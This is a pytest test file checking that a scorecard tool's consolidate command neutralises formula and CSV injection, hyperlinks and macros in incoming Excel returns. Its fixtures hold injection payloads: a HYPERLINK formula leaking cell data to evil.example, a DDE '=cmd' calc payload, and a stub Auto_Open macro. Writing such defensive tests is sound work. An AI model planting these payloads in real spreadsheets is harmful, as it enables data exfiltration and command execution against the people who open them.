"""Text from a return file is data, all the way through ``xlscorecard consolidate``: refs, names,
outcomes, notes, sheet names and period-target text starting with ``=``, ``+``, ``-``, ``@``, tab or
carriage return never become formulas in the scorecard nor live cells in the records CSV,
hyperlinks in a return are neither followed nor carried over as links, and an ``.xlsm`` return
is read as data (its macros are never run: nothing here can run them)."""

from __future__ import annotations

import csv
import re
import shutil
import socket
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from xlscorecard.cli import cli
from xlscorecard.outputs.records import FORMULA_TRIGGERS

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
NUMERIC_COLUMNS = {"value", "target", "variance_pct", "quartile", "tier"}


def _text(cell, text: str):
    """Write ``text`` as a literal string even when it starts with '=' (openpyxl would make it a formula)."""
    cell.value = text
    cell.data_type = "s"


def hostile_return(path: Path) -> Path:
    """Our template layout, every text cell hostile, a hyperlink on a name, a live formula in a note."""
    wb = Workbook()
    ws = wb.active
    ws.title = "@Indicators"
    ws.append(["Ref", "Name", "Polarity", "Frequency", "Annual target", "Priority", "Outcome", "Tier"])
    values = wb.create_sheet("=Values")
    values.append(["Ref", "Period", "Value", "Note"])
    for n, text in enumerate(HOSTILE):
        row = n + 2
        for col, cell_text in ((1, f"{text}{n}"), (2, f"{text} name"), (7, f"{text} outcome")):
            _text(ws.cell(row, col), cell_text)
        for col, value in ((3, "Higher"), (4, "Monthly"), (5, 10), (6, "1"), (8, 1)):
            ws.cell(row, col, value)
        ws.cell(row, 2).hyperlink = "http://evil.example/followed"
        _text(values.cell(row, 1), f"{text}{n}")
        values.cell(row, 2, "Dec 2020")
        values.cell(row, 3, None if n % 2 else 9 + n)  # half are gaps: their note becomes the reason
        _text(values.cell(row, 4), f"{text} note")
    values.cell(len(HOSTILE) + 2, 1, "LIVE-1")
    values.cell(len(HOSTILE) + 2, 2, "Dec 2020")
    values.cell(len(HOSTILE) + 2, 3, '=HYPERLINK("http://evil.example/live","9")')  # a real formula
    wb.save(path)
    return path


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError(f"a network connection was attempted: {args}")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _consolidate(folder: Path, out: Path):
    result = CliRunner().invoke(cli, ["consolidate", str(folder), "--period", "2020/21 Q3", "--no-history",
                                      "--out", str(out / "scorecard.xlsx"), "--records", str(out / "records.csv")])
    assert result.exit_code == 0, result.output
    return out / "scorecard.xlsx", out / "records.csv"


def test_hostile_text_in_a_return_never_becomes_a_formula_or_a_link(tmp_path, no_network):
    folder, out = tmp_path / "returns", tmp_path / "out"
    folder.mkdir(), out.mkdir()
    hostile_return(folder / "=service 2020-21.xlsx")
    scorecard, records = _consolidate(folder, out)

    with zipfile.ZipFile(scorecard) as package:
        sheets = {n: package.read(n).decode("utf-8") for n in package.namelist() if n.startswith("xl/worksheets/")}
        shared = package.read("xl/sharedStrings.xml").decode("utf-8")
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
        assert "evil.example" not in xml, f"{name} links to the return's hyperlink"
        assert 'TargetMode="External"' not in xml, f"{name} has an external link"
    assert 'SUM(A1:A9) name' in shared and "=cmd|' /C calc'!A0 note" in shared  # shown, as text
    assert "evil.example/followed" not in shared

    with records.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, text in row.items():
            if column in NUMERIC_COLUMNS:
                assert text == "" or re.fullmatch(r"-?\d+(\.\d+)?", text), (column, text)
            else:
                assert not text.startswith(FORMULA_TRIGGERS), f"{column} could run in a spreadsheet: {text!r}"
    quoted = {row["ref"] for row in rows}
    assert "'+1+11" in quoted and "'=cmd|' /C calc'!A06" in quoted
    assert any(row["note"] == "'=cmd|' /C calc'!A0 note" for row in rows)


def _as_xlsm(xlsx: Path, xlsm: Path) -> Path:
    """The workbook as a macro-enabled one: a vbaProject part, its content type and relationship."""
    with zipfile.ZipFile(xlsx) as source, zipfile.ZipFile(xlsm, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                data = data.replace(b"</Types>", b'<Default Extension="bin" '
                                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft'
                                    b'.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                    b"</Relationships>")
            target.writestr(info, data)
        # Not a real VBA project (none is needed: nothing here would run one), but the part is there.
        target.writestr("xl/vbaProject.bin", bytes.fromhex("D0CF11E0A1B11AE1") + b"Sub Auto_Open(): Shell \"calc\"")
    return xlsm


def test_an_xlsm_return_is_read_as_data(tmp_path, no_network):
    from return_builders import build_template
    from xlscorecard.readers import read_return

    xlsx = build_template(tmp_path / "public-health 2020-21.xlsx")
    folder = tmp_path / "returns"
    folder.mkdir()
    xlsm = _as_xlsm(xlsx, folder / "public-health 2020-21.xlsm")
    plain, macro = read_return(xlsx), read_return(xlsm)
    assert macro.observations and [o.value for o in macro.observations] == [o.value for o in plain.observations]
    assert not [f for f in macro.findings if f.severity.label == "error"]
    shutil.copy(Path(__file__).parents[1] / "sample_workbooks" / "2020-21-Q3" / "register-2020-21.xlsx", folder)
    out = tmp_path / "out"
    out.mkdir()
    scorecard, _ = _consolidate(folder, out)
    with zipfile.ZipFile(scorecard) as package:
        assert not [n for n in package.namelist() if "vba" in n.lower()]
